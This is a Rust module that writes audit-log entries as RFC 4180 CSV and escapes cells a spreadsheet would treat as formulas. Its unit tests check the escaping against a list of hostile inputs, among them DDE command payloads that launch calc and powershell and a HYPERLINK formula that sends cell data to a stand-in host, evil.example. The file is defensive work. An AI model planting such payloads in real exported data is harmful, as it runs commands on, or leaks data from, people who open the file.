//! Entries as a table: RFC 4180, and safe to open in a spreadsheet.
//!
//! Much of an entry was typed by people who may not be friends (names, reasons, a browser's name of itself). A cell that
//! a spreadsheet would take for a formula gets an apostrophe in front; so does one that begins with an apostrophe, which
//! makes it reversible: whoever reads the table with a program takes one leading apostrophe off, and has what was there.
//! Every cell stands in quotes, so that no character inside begins another cell or another record.

use crate::audit::AuditEvent;

/// The names of the columns, in order; those of the API, with what is nested there joined on.
pub(super) const COLUMNS: &[&str] = &[
    "id",
    "occurredAt",
    "organizationId",
    "organizationName",
    "code",
    "sentence",
    "outcome",
    "riskLevel",
    "complianceRelevant",
    "controls",
    "actorId",
    "actorOrganizationId",
    "actorName",
    "actorEmail",
    "actorRole",
    "targetType",
    "targetId",
    "targetName",
    "sessionId",
    "clientIp",
    "userAgent",
    "requestId",
    "policyIds",
    "details",
];

/// The first record: what the columns are.
pub(super) fn head(out: &mut String) {
    record(out, COLUMNS.iter().copied());
}

/// One entry.
pub(super) fn entry(out: &mut String, event: &AuditEvent) {
    let (actor, target) = (event.actor.as_ref(), event.target.as_ref());
    let cells = [
        event.id.to_string(),
        super::instant(event.occurred_at),
        event.organization_id.to_string(),
        event.organization_name.clone(),
        event.code.clone(),
        event.sentence.clone(),
        event.outcome.to_string(),
        event.risk_level.to_string(),
        event.compliance_relevant.to_string(),
        event.controls.join(" "),
        actor.map(|actor| actor.id.to_string()).unwrap_or_default(),
        actor.and_then(|actor| actor.organization_id).map(|id| id.to_string()).unwrap_or_default(),
        actor.map(|actor| actor.name.clone()).unwrap_or_default(),
        actor.map(|actor| actor.email.clone()).unwrap_or_default(),
        actor.and_then(|actor| actor.role.clone()).unwrap_or_default(),
        target.map(|target| target.kind.clone()).unwrap_or_default(),
        target.map(|target| target.id.to_string()).unwrap_or_default(),
        target.map(|target| target.name.clone()).unwrap_or_default(),
        event.session_id.map(|id| id.to_string()).unwrap_or_default(),
        event.client_ip.clone().unwrap_or_default(),
        event.user_agent.clone().unwrap_or_default(),
        event.request_id.map(|id| id.to_string()).unwrap_or_default(),
        event.policy_ids.join(" "),
        event.details.to_string(),
    ];
    record(out, cells.iter().map(String::as_str));
}

fn record<'a>(out: &mut String, cells: impl Iterator<Item = &'a str>) {
    for (number, cell) in cells.enumerate() {
        if number > 0 {
            out.push(',');
        }
        out.push('"');
        if begins_a_formula(cell) {
            out.push('\'');
        }
        // A doubled quote is a quote inside.
        for (part, piece) in cell.split('"').enumerate() {
            if part > 0 {
                out.push_str("\"\"");
            }
            out.push_str(piece);
        }
        out.push('"');
    }
    out.push_str("\r\n");
}

/// What spreadsheets calculate or trim away to get at something that they calculate; with the full-width forms that
/// some turn into the plain ones, and the apostrophe that is ours.
fn begins_a_formula(cell: &str) -> bool {
    cell.starts_with(|first: char| {
        matches!(
            first,
            '=' | '+' | '-' | '@' | '\t' | '\r' | '\n' | '\0' | '\'' | '＝' | '＋' | '－' | '＠' | '\u{feff}'
        ) || first.is_whitespace()
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Reads RFC 4180 as its grammar says, and takes our apostrophe off.
    fn read(text: &str) -> Vec<Vec<String>> {
        let (mut records, mut record, mut cell) = (Vec::new(), Vec::new(), String::new());
        let mut rest = text.chars().peekable();
        let mut quoted = false;
        while let Some(c) = rest.next() {
            match c {
                '"' if quoted && rest.peek() == Some(&'"') => cell.extend(rest.next()),
                '"' => quoted = !quoted,
                ',' if !quoted => record.push(std::mem::take(&mut cell)),
                '\r' if !quoted && rest.next() == Some('\n') => {
                    record.push(std::mem::take(&mut cell));
                    records.push(std::mem::take(&mut record));
                }
                c => {
                    assert!(quoted, "{c:?} stands outside of quotes");
                    cell.push(c);
                }
            }
        }
        assert!(!quoted && cell.is_empty() && record.is_empty());
        let bare = |cell: String| cell.strip_prefix('\'').map(str::to_owned).unwrap_or(cell);
        records.into_iter().map(|record| record.into_iter().map(bare).collect()).collect()
    }

    const HOSTILE: &[&str] = &[
        "",
        "plain",
        "=1+1",
        "+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1",
        "\r=1",
        "\n=1",
        "\0=1",
        " =1",
        "\u{a0}=1",
        "\u{feff}=1",
        "＝1+1",
        "＋1",
        "－1",
        "＠SUM(1)",
        "'=1",
        "''",
        "'",
        "\"=1\"",
        "\",=1",
        "\"\r\n=1,\"",
        "a,b",
        "a;=1",
        "a\r\nb",
        "a\nb",
        "a\0b",
        "=HYPERLINK(\"https://evil.example/?\"&A1,\"open\")",
        "=cmd|'/C powershell'!A0",
        "{\"details\":\"=1\"}",
    ];

    #[test]
    fn x01_no_cell_is_a_formula_and_reading_it_back_gives_what_was_there() {
        let mut text = String::new();
        record(&mut text, HOSTILE.iter().copied());
        assert_eq!(read(&text), [HOSTILE]);
        // As a spreadsheet sees each cell: the first character within its quotes.
        for cell in HOSTILE {
            let mut one = String::new();
            record(&mut one, std::iter::once(*cell));
            let first = one.chars().nth(1).unwrap();
            assert!(
                !"=+-@\t\r\n\0＝＋－＠\u{feff}".contains(first) && !first.is_whitespace(),
                "{cell:?} begins with {first:?}"
            );
        }
    }

    #[test]
    fn x02_whatever_stands_in_a_cell_stays_one_record() {
        let mut text = String::new();
        for cell in HOSTILE {
            record(&mut text, ["before", *cell, "after"].into_iter());
        }
        let records = read(&text);
        assert_eq!(records.len(), HOSTILE.len());
        for (record, cell) in records.iter().zip(HOSTILE) {
            assert_eq!(record, &["before", *cell, "after"]);
        }
    }

    proptest::proptest! {
        #[test]
        fn x02_any_text_comes_back(cells in proptest::collection::vec(".*|[=+@'\",\r\n-]{0,5}", 1..6)) {
            let mut text = String::new();
            record(&mut text, cells.iter().map(String::as_str));
            proptest::prop_assert_eq!(read(&text), vec![cells]);
        }
    }
}
